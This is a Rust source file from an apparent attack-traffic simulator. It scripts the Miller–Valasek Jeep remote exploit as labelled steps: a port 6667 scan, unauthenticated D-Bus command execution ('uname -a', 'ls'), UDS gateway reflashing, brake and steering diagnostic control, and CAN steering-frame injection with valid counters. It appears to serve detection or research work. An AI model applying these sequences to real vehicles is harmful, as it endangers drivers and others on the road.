//! The Jeep: from the mobile network into the telematics unit, and from there to brakes and steering.
//!
//! Modelled on: C. Miller, C. Valasek, "Remote Exploitation of an Unaltered Passenger Vehicle" (2015) and
//! "Adventures in Automotive Networks and Control Units" (2013). From these: a message bus that lets in
//! whoever comes on port 6667 of the mobile network, a gateway whose program is replaced so that it lets
//! frames through to the vehicle's bus, diagnostic services that let go of the brakes, and made-up frames
//! with the counter that the receiver expects next.

use model::Locality;

use super::{AttackKind, AttackStep, Script};
use crate::net::{Host, MILLI, Net, Os, SECOND};
use crate::speak::uds::Unit;
use crate::speak::{can, dbus};

pub(crate) const KIND: AttackKind = AttackKind {
    name: "jeep",
    about: "from the mobile network into the telematics unit, and from there to brakes and steering",
    scenes: &["vehicle"],
    benign: false,
    steps: &[
        AttackStep {
            name: "port-search",
            about: "Somebody in the mobile network tries addresses for port 6667, which cars with this \
                    telematics unit leave open.",
            techniques: &["T0883", "T1595.001", "T1046"],
        },
        AttackStep {
            name: "bus-access",
            about: "The unit's message bus lets him in without a password. He asks it what it is and has \
                    it run commands.",
            techniques: &["T0822", "T1059", "T0807", "T0888"],
        },
        AttackStep {
            name: "gateway-reflash",
            about: "From the telematics unit he replaces the program of the gateway between it and the \
                    vehicle's bus: it lets all frames through from now on.",
            techniques: &["T0857", "T0839", "T0843"],
        },
        AttackStep {
            name: "diagnostic-control",
            about: "As a workshop's tester would, but on the road, he opens diagnostic sessions with brakes \
                    and steering, unlocks them, and moves valves and motors.",
            techniques: &["T0858", "T0855", "T0831"],
        },
        AttackStep {
            name: "frame-injection",
            about: "He sends steering angles of his own under the identifier of the steering's sensor, each \
                    with a right check and the counter that comes next: receivers take what comes first.",
            techniques: &["T0856", "T0855", "T0880"],
        },
    ],
    set_up,
};

/// Where units are asked and answer.
const GATEWAY: Unit = Unit { asked: 0x740, answers: 0x748 };
const BRAKES: Unit = Unit { asked: 0x760, answers: 0x768 };
const STEERING: Unit = Unit { asked: 0x730, answers: 0x738 };
/// The steering's sensor.
const ANGLE: u32 = 0x0e5;

/// Bytes of the gateway's new program.
const PROGRAM: usize = 6_000;
/// Bytes at a time.
const PART: usize = 100;

fn set_up(net: &mut Net, script: Script) {
    let attacker = Host::beyond("attacker", Locality::External, [198, 51, 100, 77], Os::Linux);
    let attacker = net.add(attacker.slow(60_000, 140_000));
    let telematics = net.host("telematics");
    let units = [telematics];

    script.act(net, ("port-search", 0), (attacker, &units), move |net| {
        for port in [6_666, 6_667, 23, 22, 6_667] {
            let (ip, seq) = (net.v4(telematics, attacker), net.rng.u32());
            net.probe(attacker, (ip, port).into(), seq, port == 6_667);
            net.pause_us(400_000, 1_500_000);
        }
    });
    script.act(net, ("bus-access", 12), (attacker, &units), move |net| {
        let conn = dbus::open(net, attacker, telematics, 6_667);
        let bus = "org.freedesktop.DBus";
        dbus::call(net, conn, 2, ["/", bus, bus, "GetId"], &[], "a1b2c3d4");
        let service = "com.harman.service.NavTrailService";
        for (serial, command) in (3..).zip(["uname -a", "ls /fs/mmc0", "pidin", "ls /dev/ipc"]) {
            let arguments = ["execute", &format!("{{\"cmd\":\"{command}\"}}")];
            let path = "/com/harman/service/NavTrailService";
            let method = [path, service, "com.harman.ServiceIpc", "Invoke"];
            dbus::call(net, conn, serial, method, &arguments, "QNX localhost 6.5.0 armle");
            net.pause_us(1_000_000, 3_000_000);
        }
        net.close(conn);
    });
    script.act(net, ("gateway-reflash", 28), (telematics, &units), move |net| {
        // Extended session, no more fault memory, no more ordinary frames; then the programming session.
        GATEWAY.ask(net, &[0x10, 3], &[3, 0, 0x32, 1, 0xf4]);
        GATEWAY.ask(net, &[0x85, 2], &[2]);
        GATEWAY.unlock(net, 2);
        // Erase, announce the length, send, check, restart.
        GATEWAY.ask(net, &[0x31, 1, 0xff, 0, 0, 0, 0x80, 0], &[1, 0xff, 0]);
        let [.., high, low] = (PROGRAM as u32).to_be_bytes();
        GATEWAY.ask(net, &[0x34, 0, 0x44, 0, 0, 0x80, 0, 0, 0, high, low], &[0x20, 1, 0]);
        for number in 1..=PROGRAM.div_ceil(PART) {
            let number = number as u8;
            let part = net.rng.bytes(PART);
            GATEWAY.ask(net, &[&[0x36, number][..], &part].concat(), &[number]);
        }
        GATEWAY.ask(net, &[0x37], &[]);
        GATEWAY.ask(net, &[0x31, 1, 0xff, 1], &[1, 0xff, 1, 0]);
        GATEWAY.ask(net, &[0x11, 1], &[1]);
    });
    let control = script.stage(net, "diagnostic-control", telematics, &units);
    let period = (script.span / 20).max(2 * SECOND);
    net.during(control, |net| {
        let mut number = 0_u8;
        net.every(script.at(60), period, move |net| {
            if number == 0 {
                BRAKES.refused(net, &[0x2f, 0x20, 0x11, 3, 0xff], 0x33);
            }
            number = number.wrapping_add(1);
            BRAKES.unlock(net, 3);
            // Take over the valves and open them; then the routine that bleeds the brakes.
            BRAKES.ask(net, &[0x2f, 0x20, 0x11, 3, 0xff, number], &[0x20, 0x11, 3, 0xff, number]);
            BRAKES.ask(net, &[0x31, 1, 0x02, 0x0a, number], &[1, 0x02, 0x0a, number]);
            STEERING.unlock(net, 3);
            STEERING.ask(net, &[0x2f, 0x30, 0x01, 3, 0x7f, number], &[0x30, 0x01, 3, 0x7f, number]);
            BRAKES.ask(net, &[0x3e, 0], &[0]);
        });
    });
    let injection = script.stage(net, "frame-injection", telematics, &units);
    net.during(injection, |net| {
        let mut counter = 0_u8;
        net.every(script.at(78), 20 * MILLI, move |net| {
            // A hundred and eighty degrees to the right, in tenths.
            let [high, low] = 1_800_i16.to_be_bytes();
            let data = can::protected(ANGLE, [high, low, 0, 90, 0, 0], counter);
            counter = (counter + 1) % 15;
            can::send(net, ANGLE, data);
        });
    });
}
